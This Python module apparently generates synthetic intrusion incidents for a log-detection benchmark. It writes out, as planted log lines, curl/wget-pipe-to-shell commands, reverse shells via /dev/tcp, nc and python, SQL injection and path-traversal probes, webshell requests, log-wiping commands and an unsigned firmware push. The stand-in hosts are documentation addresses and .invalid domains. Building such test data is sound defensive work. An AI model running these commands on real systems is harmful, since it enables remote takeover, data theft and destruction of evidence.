"""What intruders leave in logs: the incidents that a stream plants, each a short run of lines that belong together.

A planted line is ready but for its time (the same control bytes as in ``benign``) and holds no ``%d`` slot. Attackers
come from 203.0.113.0/24 and fetch from ``.invalid`` names, so that a planted line differs from an ordinary one.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from random import Random

from bench.benign import EPOCH, HOSTS, USERS, WEB_HOSTS, access, syslog

Incident = Callable[[Random], list[str]]


def _attacker(rng: Random) -> str:
    return f"203.0.113.{rng.randrange(1, 255)}"


def _pid(rng: Random) -> int:
    return rng.randrange(300, 32768)


def _sudo(rng: Random, *commands: str) -> list[str]:
    """One user on one host running ``commands`` as root."""
    host, user, terminal = rng.choice(HOSTS), rng.choice(USERS), rng.randrange(6)
    message = f"{user:>8} : TTY=pts/{terminal} ; PWD=/tmp ; USER=root ; COMMAND="
    return [syslog(85, host, f"sudo[{_pid(rng)}]", message + command) for command in commands]


def _ssh_brute_force(rng: Random) -> list[str]:
    host, ip = rng.choice(HOSTS), _attacker(rng)
    lines = []
    for _ in range(rng.randrange(4, 8)):
        user = rng.choice(("root", "invalid user admin", "invalid user oracle", "invalid user pi", "invalid user test"))
        port = rng.randrange(30000, 60000)
        if user.startswith("invalid"):
            lines.append(syslog(38, host, f"sshd[{_pid(rng)}]", f"I{user[1:]} from {ip} port {port}"))
        lines.append(syslog(38, host, f"sshd[{_pid(rng)}]", f"Failed password for {user} from {ip} port {port} ssh2"))
    return lines


def _sudo_shell(rng: Random) -> list[str]:
    tool = rng.choice(("curl -fsSL", "wget -qO-"))
    return _sudo(rng, f"/bin/sh -c {tool} http://{_hexname(rng)}.invalid/x.sh | sh")


def _hexname(rng: Random) -> str:
    return f"{rng.getrandbits(24):06x}"


def _reverse_shell(rng: Random) -> list[str]:
    ip, port = _attacker(rng), rng.choice((4444, 9001, 1337, 443))
    command = rng.choice(
        (
            f"/bin/bash -c bash -i >& /dev/tcp/{ip}/{port} 0>&1",
            f"/usr/bin/nc -e /bin/sh {ip} {port}",
            f'/usr/bin/python3 -c import socket,pty;s=socket.socket();s.connect(("{ip}",{port}));pty.spawn("/bin/sh")',
        )
    )
    if rng.random() < 0.5:
        return _sudo(rng, command)
    return [syslog(78, rng.choice(HOSTS), f"CRON[{_pid(rng)}]", f"(www-data) CMD ({command})")]


def _download_and_run(rng: Random) -> list[str]:
    name = _hexname(rng)
    url = f"http://{_hexname(rng)}.invalid/{name}"
    steps = f"/usr/bin/wget -q {url} -O /tmp/.{name}", f"/usr/bin/chmod +x /tmp/.{name}", f"/tmp/.{name} --daemon"
    if rng.random() < 0.5:
        return _sudo(rng, f"/bin/sh -c wget -q {url} -O /tmp/.{name} && chmod +x /tmp/.{name} && /tmp/.{name}")
    return _sudo(rng, *steps)


def _log_tampering(rng: Random) -> list[str]:
    commands = (
        "/usr/bin/rm -f /var/log/auth.log",
        "/usr/bin/truncate -s 0 /var/log/syslog",
        "/usr/bin/journalctl --vacuum-time=1s",
        "/usr/bin/ln -sf /dev/null /root/.bash_history",
    )
    return _sudo(rng, rng.choice(commands))


def _uid0_user(rng: Random) -> list[str]:
    name = rng.choice(("sysadm", "support", "toor"))
    message = f"new user: name={name}, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/{rng.randrange(4)}"
    return [syslog(86, rng.choice(HOSTS), f"useradd[{_pid(rng)}]", message)]


def _web(rng: Random, request: str, status: int, agent: str) -> str:
    return access(_attacker(rng), "-", request, status, str(rng.randrange(150, 9000)), "-", agent)


def _sql_injection(rng: Random) -> list[str]:
    probes = (
        "/shop/item?id=1%20UNION%20SELECT%20login,password%20FROM%20users--",
        "/shop/item?id=1'%20OR%20'1'='1",
        "/api/v1/orders?sort=id;SELECT%20SLEEP(5)--",
    )
    agent = rng.choice(("sqlmap/1.8.2#stable (https://sqlmap.org)", "Mozilla/5.0"))
    return [_web(rng, f"GET {rng.choice(probes)} HTTP/1.1", rng.choice((200, 500)), agent)]


def _path_traversal(rng: Random) -> list[str]:
    path = rng.choice(
        ("/../../../../etc/passwd", "/assets/..%2f..%2f..%2fetc%2fpasswd", "/shop/list?file=../../../etc/shadow")
    )
    return [_web(rng, f"GET {path} HTTP/1.1", rng.choice((200, 400, 404)), "Mozilla/5.0")]


def _webshell(rng: Random) -> list[str]:
    shell = rng.choice(("/uploads/cmd.php", "/images/shell.php", "/wp-content/uploads/c99.php"))
    commands = ("id", "whoami", "cat+/etc/passwd", "uname+-a")
    return [
        _web(rng, f"GET {shell}?cmd={command} HTTP/1.1", 200, "python-requests/2.31")
        for command in commands[: rng.randrange(1, 5)]
    ]


def _over_syslog(incident: Incident) -> Incident:
    """The same web requests as the web server sends them by syslog."""

    def wrapped(rng: Random) -> list[str]:
        host = rng.choice(WEB_HOSTS)
        return [syslog(190, host, "nginx", line) for line in incident(rng)]

    return wrapped


def _out_of_range(rng: Random) -> list[str]:
    device = f"press-{rng.randrange(24):02}"
    lines = []
    for _ in range(rng.randrange(1, 4)):
        temperature = rng.choice((rng.uniform(140, 400), -rng.uniform(60, 200)))
        lines.append(
            f'plant/hall1/press/{device}/telemetry {{"ts":{EPOCH},"seq":{rng.randrange(10**6)},"device_id":"{device}",'
            f'"temperature":{temperature:.1f},"vibration":{rng.uniform(9, 30):.2f},"rpm":{rng.randrange(4000, 9000)},'
            '"state":"run"}'
        )
    return lines


def _device_command(rng: Random) -> list[str]:
    device = f"meter-{rng.randrange(40):02}"
    url = f"http://{_hexname(rng)}.invalid/fw.bin"
    return [
        f'plant/hall2/meter/{device}/command {{"ts":{EPOCH},"device_id":"{device}","command":"firmware_update",'
        f'"firmware_url":"{url}","signature":null,"client":"{_attacker(rng)}"}}'
    ]


WEB: Mapping[str, Incident] = {
    "web_sql_injection": _sql_injection,
    "web_path_traversal": _path_traversal,
    "webshell": _webshell,
}
SYSLOG: Mapping[str, Incident] = {
    "ssh_brute_force": _ssh_brute_force,
    "sudo_shell": _sudo_shell,
    "reverse_shell": _reverse_shell,
    "download_and_run": _download_and_run,
    "log_tampering": _log_tampering,
    "uid0_user": _uid0_user,
    **{name: _over_syslog(incident) for name, incident in WEB.items()},
}
MQTT: Mapping[str, Incident] = {"device_out_of_range": _out_of_range, "device_command": _device_command}
